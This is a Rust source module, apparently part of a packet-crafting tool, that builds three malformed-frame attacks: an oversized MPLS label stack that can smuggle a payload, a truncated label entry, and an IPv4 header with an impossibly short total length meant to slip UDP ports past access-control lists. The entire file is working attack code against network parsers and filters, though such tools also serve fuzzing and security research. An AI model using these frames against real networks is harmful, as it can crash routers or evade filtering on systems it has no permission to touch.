use std::net::Ipv4Addr;

use super::AttackError;
use crate::packet::mpls::{LSE_LEN, S_BIT_MASK};
use crate::packet::{
    encode_frame, EthernetHeader, Ipv4Header, Layer, MplsLse, RawFrame, ETHERNET_HEADER_LEN,
    ETHERTYPE_IPV4, ETHERTYPE_MPLS_UNICAST, IPPROTO_UDP,
};

/// A full 1500-octet MTU of label stack entries after the Ethernet header.
pub const LONG_SHIM_FRAME_SIZE: usize = 1514;
pub const SHORT_SHIM_FRAGMENT_LEN: usize = 2;
pub const ACL_BYPASS_DPORT: u16 = 8080;

/// Label used for entries not carrying payload.
const FILLER_LABEL: u32 = 16;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackKind {
    LongShim,
    ShortShim,
    AclBypass,
}

impl AttackKind {
    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::LongShim => "long-shim",
            AttackKind::ShortShim => "short-shim",
            AttackKind::AclBypass => "acl-bypass",
        }
    }
}

impl std::str::FromStr for AttackKind {
    type Err = AttackError;

    fn from_str(s: &str) -> Result<Self, AttackError> {
        match s {
            "long-shim" => Ok(AttackKind::LongShim),
            "short-shim" => Ok(AttackKind::ShortShim),
            "acl-bypass" => Ok(AttackKind::AclBypass),
            _ => Err(AttackError::InvalidSpec(format!("unknown attack kind `{s}`"))),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackSpec {
    pub kind: AttackKind,
    /// Long Shim only; the label count is `(frame_size - 14) / 4`.
    pub frame_size: usize,
    /// Short Shim only: octets of the truncated entry, 1 to 3.
    pub fragment_len: usize,
    /// ACL bypass only: must be below the 20-octet header length.
    pub total_length: u16,
    pub sport: u16,
    pub dport: u16,
    /// Long Shim only: packed into the label stack, see [`encode_payload`].
    pub payload: Option<Vec<u8>>,
}

impl AttackSpec {
    pub fn new(kind: AttackKind) -> Self {
        AttackSpec {
            kind,
            frame_size: LONG_SHIM_FRAME_SIZE,
            fragment_len: SHORT_SHIM_FRAGMENT_LEN,
            total_length: 0,
            sport: ACL_BYPASS_DPORT,
            dport: ACL_BYPASS_DPORT,
            payload: None,
        }
    }

    pub fn long_shim() -> Self {
        Self::new(AttackKind::LongShim)
    }

    pub fn short_shim() -> Self {
        Self::new(AttackKind::ShortShim)
    }

    pub fn acl_bypass() -> Self {
        Self::new(AttackKind::AclBypass)
    }

    pub fn label_count(&self) -> usize {
        self.frame_size.saturating_sub(ETHERNET_HEADER_LEN) / LSE_LEN
    }
}

/// Builds the attack frame described by `spec`.
pub fn craft(spec: &AttackSpec) -> Result<RawFrame, AttackError> {
    let mpls_eth = EthernetHeader::new(ETHERTYPE_MPLS_UNICAST);
    match spec.kind {
        AttackKind::LongShim => {
            let labels = spec.label_count();
            if labels == 0 {
                return Err(AttackError::InvalidSpec(format!(
                    "frame size {} leaves no room for a label",
                    spec.frame_size
                )));
            }
            let mut stack = match &spec.payload {
                Some(data) => {
                    let capacity = labels * LSE_LEN;
                    if data.len() > capacity {
                        return Err(AttackError::PayloadTooLarge { len: data.len(), capacity });
                    }
                    let mut padded = data.clone();
                    padded.resize(data.len().next_multiple_of(LSE_LEN), 0);
                    encode_payload(&padded)?
                }
                None => Vec::new(),
            };
            stack.resize(labels, MplsLse::new(FILLER_LABEL, 0, false, 64));
            let layers: Vec<Layer> = stack.into_iter().map(Layer::Mpls).collect();
            Ok(encode_frame(&mpls_eth, &layers, &[])?)
        }
        AttackKind::ShortShim => {
            if !(1..LSE_LEN).contains(&spec.fragment_len) {
                return Err(AttackError::InvalidSpec(format!(
                    "fragment length {} is not 1..=3",
                    spec.fragment_len
                )));
            }
            let entry = MplsLse::new(FILLER_LABEL, 0, false, 64).encode();
            let fragment = entry[..spec.fragment_len].to_vec();
            Ok(encode_frame(&mpls_eth, &[Layer::Raw(fragment)], &[])?)
        }
        AttackKind::AclBypass => {
            let ip = Ipv4Header {
                total_length: spec.total_length,
                protocol: IPPROTO_UDP,
                src: Ipv4Addr::new(10, 0, 0, 66),
                dst: Ipv4Addr::new(10, 0, 0, 1),
                ..Default::default()
            };
            if ip.is_well_formed() {
                return Err(AttackError::InvalidSpec(format!(
                    "total length {} is not below the header length",
                    spec.total_length
                )));
            }
            let mut ports = Vec::with_capacity(4);
            ports.extend_from_slice(&spec.sport.to_be_bytes());
            ports.extend_from_slice(&spec.dport.to_be_bytes());
            Ok(encode_frame(&EthernetHeader::new(ETHERTYPE_IPV4), &[Layer::Ipv4(ip)], &ports)?)
        }
    }
}

/// Packs `data` into label stack entries, four octets each, in network
/// order. A chunk whose bit at the bottom-of-stack position is set would end
/// the stack early and is rejected.
pub fn encode_payload(data: &[u8]) -> Result<Vec<MplsLse>, AttackError> {
    if !data.len().is_multiple_of(LSE_LEN) {
        return Err(AttackError::PayloadMisaligned { len: data.len() });
    }
    data.chunks_exact(LSE_LEN)
        .enumerate()
        .map(|(i, chunk)| {
            let word = u32::from_be_bytes([chunk[0], chunk[1], chunk[2], chunk[3]]);
            if word & S_BIT_MASK != 0 {
                Err(AttackError::PayloadViolatesConstraint { chunk_index: i })
            } else {
                Ok(MplsLse::from_word(word))
            }
        })
        .collect()
}

pub fn decode_payload(stack: &[MplsLse]) -> Vec<u8> {
    stack.iter().flat_map(|lse| lse.encode()).collect()
}
